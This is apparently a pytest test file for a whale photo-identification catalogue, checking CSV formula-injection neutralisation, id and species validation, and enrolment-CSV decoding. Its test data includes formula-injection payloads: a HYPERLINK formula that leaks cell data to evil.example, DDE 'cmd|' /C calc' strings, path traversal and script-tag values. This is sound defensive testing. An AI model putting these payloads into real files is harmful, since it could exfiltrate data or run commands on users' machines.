"""Untrusted text: CSV formula injection, individual ids and species, enrolment CSV encodings and sizes.

Everything goes through ``whales_identify.inputs.text``: ``csv_safe`` for every CSV cell we write,
``validate_individual_id`` / ``validate_species`` wherever an id or a species enters the catalogue,
``decode_text`` / ``read_csv`` for enrolment CSVs.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
import yaml
from test_catalog import FakeEmbedder, base_gallery, photo, snapshot

from whales_identify.batch.local import BatchRow, write_csv
from whales_identify.catalog.enrol import EnrolmentError, enrol_photo, enrol_zip
from whales_identify.catalog.store import Catalog, CatalogError
from whales_identify.config import DEFAULT_SPECIES_MAP
from whales_identify.errors import LabelsError, WhaleIdError

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]


# --- csv_safe ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_safe_neutralises_formula_cells(cell: str) -> None:
    from whales_identify.inputs.text import csv_safe

    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1.5", "+3", "-0", "1e-3", "-2.5E+7", ".5", "-33.9"])
def test_csv_safe_keeps_numbers(cell: str) -> None:
    from whales_identify.inputs.text import csv_safe

    assert csv_safe(cell) == cell


def test_csv_safe_leaves_plain_text_and_non_strings() -> None:
    from whales_identify.inputs.text import csv_safe

    for value in ("W1", "humpback_whale", "", "a=b", "photo-1.jpg", " =not first", "'quoted"):
        assert csv_safe(value) == value
    for value in (None, 3, -2.5, True):
        assert csv_safe(value) is value


def _read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_batch_csv_cells_are_neutralised() -> None:
    rows = [
        BatchRow("=cmd|' /C calc'!A0.jpg", "error", error="@evil message"),
        BatchRow(
            "+x.jpg",
            "ok",
            species="humpback_whale",
            species_probability=0.9,
            individual_id="-1+1",
            probability=0.5,
            top5="-1+1:0.500; W2:0.100",
            latitude=-33.9,
            longitude=-0.5,
        ),
    ]
    out = io.StringIO()
    assert write_csv(rows, out) == 2
    first, second = _read_back(out.getvalue())
    assert first["file"] == "'=cmd|' /C calc'!A0.jpg" and first["error"] == "'@evil message"
    assert second["file"] == "'+x.jpg" and second["individual_id"] == "'-1+1" and second["top5"].startswith("'-1+1")
    # numbers stay numbers
    assert second["latitude"] == "-33.9" and second["longitude"] == "-0.5" and second["probability"] == "0.5"
    for line in out.getvalue().splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert _harmless(cell)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _harmless(cell: str) -> bool:
    """What a spreadsheet will not run: empty, a number, or not starting with = + - @ tab CR."""
    return not cell or _is_number(cell) or cell[0] not in "=+-@\t\r"


def test_catalog_list_csv_cells_are_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import argparse

    from whales_identify.cli.catalog import register

    db = tmp_path / "c.sqlite3"
    with Catalog(db, model_version="fake-1") as cat:
        enrol_photo(cat, FakeEmbedder(), photo(1), "W1", "beluga", new=True)
        cat.rename("W1", name='=HYPERLINK("http://evil.example","click")')
    parser = argparse.ArgumentParser()
    register(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["catalog", "list", "--csv", "--db", str(db)])
    assert args.func(args) == 0
    (row,) = _read_back(capsys.readouterr().out.strip() + "\n")
    assert row["name"] == '\'=HYPERLINK("http://evil.example","click")'
    assert row["id"] == "W1" and row["n_photos"] == "1"


# --- individual ids and species ----------------------------------------------------------------------------
GOOD_IDS = ["W1", "MY-001", "whale_53889", "unknown(not 1056)", "CRC-20448", "a", "x" * 64, "16d659a0-ec7d", "a.b:c"]
BAD_IDS = [
    "",
    " W1",
    "W1 ",
    "W\x001",
    "![x](http://evil.example/a.png)",
    "=1+1",
    "+1",
    "-W1",
    "@W1",
    "x" * 65,
    "line\nbreak",
    "tab\there",
    "W1/../../etc",
    "<script>",
    "Névé",  # ASCII only: look-alike letters from other alphabets would make two ids that look the same
    "W1\u202e",  # right-to-left override
]


@pytest.mark.parametrize("text", GOOD_IDS)
def test_valid_individual_ids(text: str) -> None:
    from whales_identify.inputs.text import validate_individual_id

    assert validate_individual_id(text) == text


@pytest.mark.parametrize("text", BAD_IDS)
def test_invalid_individual_ids_are_refused_with_a_clear_message(text: str) -> None:
    from whales_identify.inputs.text import InvalidTextError, validate_individual_id

    with pytest.raises(InvalidTextError, match="individual id") as info:
        validate_individual_id(text)
    assert isinstance(info.value, WhaleIdError)
    assert "\x00" not in str(info.value) and "\n" not in str(info.value)


def test_every_bundled_id_and_species_is_valid() -> None:
    from whales_identify.inputs.text import validate_individual_id, validate_species

    mapping = yaml.safe_load(DEFAULT_SPECIES_MAP.read_text())
    assert len(mapping) > 600
    for individual, species in mapping.items():
        assert validate_individual_id(str(individual)) == str(individual)
        assert validate_species(species) == species


def test_species_must_be_known_or_snake_case() -> None:
    from whales_identify.inputs.text import InvalidTextError, validate_species

    assert validate_species("beluga") == "beluga"
    assert validate_species("Odd Name", known=["Odd Name"]) == "Odd Name"
    for bad in ("", "Beluga", "b", "killer whale", "=1+1", "x" * 65, "beluga\x00", "1whale"):
        with pytest.raises(InvalidTextError, match="species"):
            validate_species(bad)


@pytest.mark.parametrize("bad", ["W\x001", "![x](http://evil.example/a.png)", "=1+1", "x" * 65])
def test_enrol_photo_refuses_a_bad_new_id(tmp_path: Path, bad: str) -> None:
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat:
        before = snapshot(cat.path)
        with pytest.raises(CatalogError, match="individual id"):
            enrol_photo(cat, FakeEmbedder(), photo(1), bad, "beluga", new=True)
        with pytest.raises(CatalogError, match="species"):
            enrol_photo(cat, FakeEmbedder(), photo(1), "W1", "=cmd()", new=True)
        assert snapshot(cat.path) == before


def test_rename_refuses_a_bad_new_id(tmp_path: Path) -> None:
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat:
        enrol_photo(cat, FakeEmbedder(), photo(1), "W1", "beluga", new=True)
        with pytest.raises(CatalogError, match="individual id"):
            cat.rename("W1", "=1+1")
        assert cat.individual("W1") is not None


def _zip(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


def test_enrol_zip_refuses_bad_ids_and_species_from_csv_and_folders(tmp_path: Path) -> None:
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat:
        before = snapshot(cat.path)
        text = "image,individual_id,species\na.jpg,W1,beluga\nb.jpg,![x](http://e.x/y.png),beluga\nc.jpg,W3,=1+2\n"
        listed = _zip(
            tmp_path / "l.zip", {"l.csv": text.encode(), "a.jpg": photo(1), "b.jpg": photo(2), "c.jpg": photo(3)}
        )
        with pytest.raises(EnrolmentError) as info:
            enrol_zip(cat, FakeEmbedder(), listed)
        errors = {r.file: r.message for r in info.value.report.rows if r.status == "error"}
        assert set(errors) == {"b.jpg", "c.jpg"}
        assert "individual id" in errors["b.jpg"] and "species" in errors["c.jpg"]
        folders = _zip(tmp_path / "f.zip", {"=cmd()/a.jpg": photo(4), "W9/b.jpg": photo(5)})
        with pytest.raises(EnrolmentError, match="individual id"):
            enrol_zip(cat, FakeEmbedder(), folders, species="beluga")
        with pytest.raises(CatalogError, match="species"):
            enrol_zip(cat, FakeEmbedder(), _zip(tmp_path / "g.zip", {"W9/b.jpg": photo(5)}), species="Bad Species!")
        assert snapshot(cat.path) == before


def test_existing_ids_made_before_the_rule_can_still_be_confirmed(tmp_path: Path) -> None:
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat:
        with cat.transaction() as conn:  # a legacy row written before ids were checked
            conn.execute("INSERT INTO individuals (id, species, created_at) VALUES ('old/id', 'beluga', 'x')")
        assert enrol_photo(cat, FakeEmbedder(), photo(1), "old/id").status == "added"


# --- enrolment CSVs: encodings and sizes ---------------------------------------------------------------------
def test_cp1252_enrolment_csv_is_decoded_not_mangled(tmp_path: Path) -> None:
    text = "image,individual_id,species\nphotos/bélouga été.jpg,W1,beluga\n"
    files = {"labels.csv": text.encode("cp1252"), "photos/bélouga été.jpg": photo(1)}
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat:
        report = enrol_zip(cat, FakeEmbedder(), _zip(tmp_path / "e.zip", files))
        assert [(r.file, r.status) for r in report.rows] == [("photos/bélouga été.jpg", "added")]
        assert any("Windows-1252" in note for note in report.notes)
        assert "Windows-1252" in report.summary()
        assert cat.images()["source_name"].tolist() == ["photos/bélouga été.jpg"]


def test_utf8_with_bom_and_utf16_enrolment_csvs_are_read(tmp_path: Path) -> None:
    text = "image,individual_id,species\nphotos/é.jpg,W1,beluga\n"
    for i, data in enumerate((text.encode("utf-8-sig"), text.encode("utf-16"))):
        files = {"labels.csv": data, "photos/é.jpg": photo(10 + i)}
        with Catalog(tmp_path / f"c{i}.sqlite3", base_gallery(), actor="t") as cat:
            report = enrol_zip(cat, FakeEmbedder(), _zip(tmp_path / f"e{i}.zip", files))
            assert [r.status for r in report.rows] == ["added"]


def test_undecodable_enrolment_csv_is_refused_clearly(tmp_path: Path) -> None:
    # 0x81 is neither UTF-8 here nor defined in Windows-1252
    data = b"image,individual_id,species\nphotos/\x81\xe9.jpg,W1,beluga\n"
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat:
        before = snapshot(cat.path)
        with pytest.raises(LabelsError, match=r"labels\.csv.*(UTF-8|encoding)"):
            enrol_zip(cat, FakeEmbedder(), _zip(tmp_path / "e.zip", {"labels.csv": data, "a.jpg": photo(1)}))
        assert snapshot(cat.path) == before


def test_a_200_kb_csv_field_is_a_typed_error(tmp_path: Path) -> None:
    text = "image,individual_id,species\na.jpg,W1,beluga\n" + "b.jpg," + "W" * 200_000 + ",beluga\n"
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat:
        for i, wrap in enumerate(("", '"')):  # plain and quoted fields
            data = text.replace("W" * 200_000, wrap + "W" * 200_000 + wrap).encode()
            files = {"labels.csv": data, "a.jpg": photo(1), "b.jpg": photo(2)}
            with pytest.raises(LabelsError, match=r"labels\.csv.*line 3.*(characters|field)"):
                enrol_zip(cat, FakeEmbedder(), _zip(tmp_path / f"big{i}.zip", files))


def test_a_csv_with_nul_bytes_is_refused(tmp_path: Path) -> None:
    data = b"image,individual_id,species\na.jpg,W\x001,beluga\n"
    with Catalog(tmp_path / "c.sqlite3", base_gallery(), actor="t") as cat, pytest.raises(WhaleIdError, match="NUL"):
        enrol_zip(cat, FakeEmbedder(), _zip(tmp_path / "n.zip", {"labels.csv": data, "a.jpg": photo(1)}))


def test_export_csvs_are_neutralised_and_round_trip_exactly(tmp_path: Path) -> None:
    from whales_identify.catalog.exchange import export_catalog, import_catalog

    hostile = ['=HYPERLINK("http://evil.example","x")', "'quoted", "''", "-1", "@x", "+"]
    with Catalog(tmp_path / "a.sqlite3", base_gallery(), actor="t") as cat:
        enrol_photo(cat, FakeEmbedder(), photo(1), "W1", "beluga", "=cmd|' /C calc'!A0.jpg", new=True)
        enrol_photo(cat, FakeEmbedder(), photo(2), "W2", "beluga", "-2.jpg", new=True)
        cat.rename("W1", name=hostile[0], notes="\n".join(hostile))
        cat.rename("W2", name="'quoted", notes="-1")
        export_catalog(cat, tmp_path / "e.zip")
        with zipfile.ZipFile(tmp_path / "e.zip") as archive:
            for table in ("individuals.csv", "images.csv", "audit_log.csv"):
                for row in csv.reader(io.StringIO(archive.read(table).decode())):
                    for cell in row:
                        assert _harmless(cell)
        with Catalog(tmp_path / "b.sqlite3", base_gallery(), actor="t") as copy:
            import_catalog(copy, tmp_path / "e.zip")
            for table, order in (("individuals", "id"), ("images", "id")):
                assert copy.query(f"SELECT * FROM {table} ORDER BY {order}") == cat.query(
                    f"SELECT * FROM {table} ORDER BY {order}"
                )
